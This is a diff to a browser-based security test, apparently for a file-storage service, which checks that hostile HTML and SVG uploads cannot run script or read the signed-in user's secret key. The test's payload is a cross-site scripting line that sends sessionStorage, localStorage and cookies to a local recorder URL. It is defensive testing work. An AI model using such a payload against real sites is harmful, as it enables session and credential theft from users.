@@ -107,7 +107,8 @@ async def test_hostile_uploads_run_nothing_for_a_signed_in_browser(running: Runn
     bob = running.other
     async with recorder() as (leak, seen), async_playwright() as playwright:
         steal = (f'new Image().src = "{leak}/leak?" + encodeURIComponent('
-                 "JSON.stringify(sessionStorage) + document.cookie); window.stolen = 1;")
+                 "JSON.stringify([sessionStorage, localStorage]) + document.cookie);"
+                 " window.stolen = 1;")
         await upload(running, "steal.html", f"<html><script>{steal}</script></html>".encode(),
                      bob)
         await upload(running, "steal.svg", ('<svg xmlns="http://www.w3.org/2000/svg">'
@@ -122,7 +123,7 @@ async def test_hostile_uploads_run_nothing_for_a_signed_in_browser(running: Runn
         await page.click("#signin button[type=submit]")
         await page.locator("#separate").wait_for()
         # what any script on the origin could read holds no secretKey
-        stored = await page.evaluate("JSON.stringify(sessionStorage)")
+        stored = await page.evaluate("JSON.stringify([sessionStorage, localStorage])")
         assert running.api.key.secret_id in stored
         assert running.api.key.secret_key not in stored
         assert await page.evaluate("document.cookie") == ""  # HttpOnly
